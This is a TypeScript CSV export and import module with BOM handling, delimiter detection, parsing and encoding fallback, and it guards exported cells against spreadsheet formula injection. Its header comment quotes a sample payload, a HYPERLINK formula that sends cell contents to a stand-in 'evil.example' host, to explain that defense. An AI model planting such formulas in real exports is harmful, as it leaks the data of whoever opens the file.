// CSV in and out (RFC 4180), for the exports and the gigs import.
//
// Writing:
// - A UTF-8 byte order mark first. Excel (Windows and Mac) opens a
//   double-clicked .csv in the system's legacy code page unless the file
//   starts with a BOM, which turns "Zoë" into "ZoÃ«" and "€" into "â‚¬".
//   Numbers, LibreOffice and Google Sheets read the BOM and drop it, and our
//   own importer strips it, so it costs nothing where it is not needed.
// - CRLF after every record (the RFC's line break, also after the last one);
//   a cell is quoted when it holds a comma, a quote or a line break, and
//   quotes inside are doubled.
// - Formula injection: a spreadsheet runs a cell that starts with = + - @
//   (and, in some, tab or CR) as a formula, so a client named
//   `=HYPERLINK("http://evil.example?"&A1,"Click")` would run on the
//   accountant's machine. Such cells get a leading apostrophe (OWASP's
//   advice): the spreadsheet shows the text instead of running it. Plain
//   numbers such as "-12.50" are left alone (a number cannot be a formula).
//   The importer removes that apostrophe again, so export → import round-trips.
//
// Reading: quoted cells may hold delimiters, doubled quotes and line breaks;
// records end in CRLF, LF or CR; a BOM is ignored; blank lines are skipped;
// a row with more or fewer cells than the header is an error (cells beyond the
// header that are all empty are tolerated: spreadsheets pad rows that way).

export type Cell = string | number | null | undefined;

const BOM = '\uFEFF';
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** Prefixes an apostrophe to text a spreadsheet would run as a formula. */
export function guardFormula(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/** Undoes guardFormula: "'=A1" → "=A1". Other apostrophes are kept. */
export function unguardFormula(value: string): string {
  return value.length > 1 && value[0] === "'" && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
}

/** One cell, guarded and quoted as needed. */
export function csvCell(value: Cell): string {
  const text = guardFormula(value == null ? '' : String(value));
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One record with its CRLF. */
export function csvRecord(cells: readonly Cell[]): string {
  return `${cells.map(csvCell).join(',')}\r\n`;
}

/** A whole file: BOM, header, rows. */
export function toCsv(header: readonly string[], rows: Iterable<readonly Cell[]>): string {
  const parts = [BOM, csvRecord(header)];
  for (const row of rows) parts.push(csvRecord(row));
  return parts.join('');
}

// ---------------------------------------------------------------------------
// Reading

export type Delimiter = ',' | ';' | '\t';
export const delimiters: { value: Delimiter; label: string }[] = [
  { value: ',', label: 'Commas' },
  { value: ';', label: 'Semicolons (Excel in much of Europe)' },
  { value: '\t', label: 'Tabs' },
];

export function isDelimiter(value: unknown): value is Delimiter {
  return value === ',' || value === ';' || value === '\t';
}

/** The delimiter of the first line (outside quotes): whichever of , ; tab appears most; comma on a tie. */
export function detectDelimiter(text: string): Delimiter {
  const counts = { ',': 0, ';': 0, '\t': 0 };
  let quoted = false;
  for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
    const ch = text[i];
    if (ch === '"') quoted = !quoted;
    else if (!quoted && (ch === '\n' || ch === '\r')) break;
    else if (!quoted && (ch === ',' || ch === ';' || ch === '\t')) counts[ch]++;
  }
  if (counts[';'] > counts[','] && counts[';'] >= counts['\t']) return ';';
  if (counts['\t'] > counts[','] && counts['\t'] > counts[';']) return '\t';
  return ',';
}

export type CsvRow = {
  /** The row's number as a spreadsheet shows it: the header is row 1, blank rows count. */
  number: number;
  cells: string[];
};
export type CsvTable = { headers: string[]; rows: CsvRow[] };
export type CsvError = { code: 'empty' | 'malformed' | 'too_many_rows'; message: string };
export type CsvResult = { ok: true; table: CsvTable } | { ok: false; error: CsvError };

const fail = (code: CsvError['code'], message: string): CsvResult => ({ ok: false, error: { code, message } });

/**
 * Parses CSV text into a header and rows. Line breaks inside quoted cells
 * come back as "\n" whatever the file used (a browser turns them into CRLF
 * when the text travels in a form field, so this keeps values stable).
 */
export function parseCsv(text: string, options: { delimiter?: Delimiter; maxRows?: number } = {}): CsvResult {
  const delimiter = options.delimiter ?? detectDelimiter(text);
  const maxRows = options.maxRows ?? Infinity;
  const records: string[][] = [];
  const n = text.length;
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  let line = 1; // physical line, for messages about unclosed quotes
  let cells: string[] = [];
  let filled = 0; // records with something in them, header included

  const isBreak = (ch: string | undefined) => ch === '\n' || ch === '\r';
  while (i < n || cells.length > 0) {
    // One cell.
    if (text[i] === '"') {
      const startLine = line;
      let value = '';
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote === -1) {
          return fail('malformed', `A quoted cell that starts on line ${startLine} is never closed: a " is missing.`);
        }
        const chunk = text.slice(i, quote);
        line += (chunk.match(/\r\n|\r|\n/g) ?? []).length;
        value += chunk.replace(/\r\n?/g, '\n');
        if (text[quote + 1] === '"') {
          value += '"';
          i = quote + 2;
          continue;
        }
        i = quote + 1;
        break;
      }
      if (i < n && text[i] !== delimiter && !isBreak(text[i])) {
        return fail(
          'malformed',
          `Line ${line}: there is text right after a closing quote. A quote inside a quoted cell must be doubled ("").`,
        );
      }
      cells.push(value);
    } else {
      let j = i;
      while (j < n && text[j] !== delimiter && !isBreak(text[j])) j++;
      cells.push(text.slice(i, j));
      i = j;
    }
    // After a cell: a delimiter (another cell follows), a line break or the end (the record ends).
    if (i < n && text[i] === delimiter) {
      i++;
      continue;
    }
    if (i < n && text[i] === '\r' && text[i + 1] === '\n') i += 2;
    else if (i < n) i++;
    line++;
    records.push(cells);
    if (!isBlank(cells)) filled++;
    cells = [];
    // Stop reading early: a file far over the limit is refused as it is, not parsed to the end.
    if (filled > maxRows + 1) {
      return fail('too_many_rows', `The file has more than ${maxRows.toLocaleString('en-US')} rows. Split it into smaller files (one per year, say) and import them one by one.`);
    }
  }

  const first = records.findIndex((r) => !isBlank(r));
  if (first === -1) return fail('empty', 'The file is empty.');
  const headers = records[first].map((h) => h.trim());
  const rows: CsvRow[] = [];
  const ragged: string[] = [];
  for (let r = first + 1; r < records.length; r++) {
    const record = records[r];
    if (isBlank(record)) continue;
    let cellsOf = record;
    if (record.length > headers.length && isBlank(record.slice(headers.length))) cellsOf = record.slice(0, headers.length);
    if (cellsOf.length !== headers.length) {
      ragged.push(`row ${r + 1} has ${cellsOf.length} ${cellsOf.length === 1 ? 'cell' : 'cells'}`);
      continue;
    }
    rows.push({ number: r + 1, cells: cellsOf });
  }
  if (ragged.length) {
    const shown = ragged.slice(0, 5).join(', ') + (ragged.length > 5 ? ` and ${ragged.length - 5} more` : '');
    return fail(
      'malformed',
      `The header row has ${headers.length} columns, but ${shown}. Check for a missing or extra ${delimiterName(delimiter)} (a cell containing one needs quotes).`,
    );
  }
  if (rows.length === 0) return fail('empty', 'The file has a header row but no rows under it.');
  if (rows.length > maxRows) {
    return fail('too_many_rows', `The file has ${rows.length.toLocaleString('en-US')} rows; at most ${maxRows.toLocaleString('en-US')} can be imported at once. Split it into smaller files (one per year, say) and import them one by one.`);
  }
  return { ok: true, table: { headers, rows } };
}

function isBlank(cells: readonly string[]): boolean {
  return cells.every((c) => c.trim() === '');
}

function delimiterName(d: Delimiter): string {
  return d === ',' ? 'comma' : d === ';' ? 'semicolon' : 'tab';
}

// ---------------------------------------------------------------------------
// Bytes → text

export type Encoding = 'utf-8' | 'utf-16le' | 'utf-16be' | 'windows-1252';

/**
 * Decodes an uploaded file: by its byte order mark when it has one, else as
 * UTF-8, else (bytes that are not valid UTF-8) as Windows-1252, which is what
 * Excel's plain "CSV (Comma delimited)" writes on Western-European and US
 * Windows. The caller tells the musician when the fallback was used.
 */
export function decodeCsvBytes(bytes: Uint8Array): { text: string; encoding: Encoding } {
  if (bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf) {
    return { text: new TextDecoder('utf-8').decode(bytes.subarray(3)), encoding: 'utf-8' };
  }
  if (bytes[0] === 0xff && bytes[1] === 0xfe) return { text: new TextDecoder('utf-16le').decode(bytes.subarray(2)), encoding: 'utf-16le' };
  if (bytes[0] === 0xfe && bytes[1] === 0xff) return { text: new TextDecoder('utf-16be').decode(bytes.subarray(2)), encoding: 'utf-16be' };
  try {
    return { text: new TextDecoder('utf-8', { fatal: true }).decode(bytes), encoding: 'utf-8' };
  } catch {
    return { text: decodeWindows1252(bytes), encoding: 'windows-1252' };
  }
}

// Windows-1252 is Latin-1 except for 0x80–0x9F (€, curly quotes, dashes…).
// Node's TextDecoder('windows-1252') decodes those as Latin-1 control
// characters, so they are mapped here (0x81, 0x8D, 0x8F, 0x90, 0x9D are unused).
const CP1252_HIGH = '€\u0081‚ƒ„…†‡ˆ‰Š‹Œ\u008DŽ\u008F\u0090‘’“”•–—˜™š›œ\u009DžŸ';

function decodeWindows1252(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('latin1').replace(/[\u0080-\u009F]/g, (c) => CP1252_HIGH[c.charCodeAt(0) - 0x80]);
}
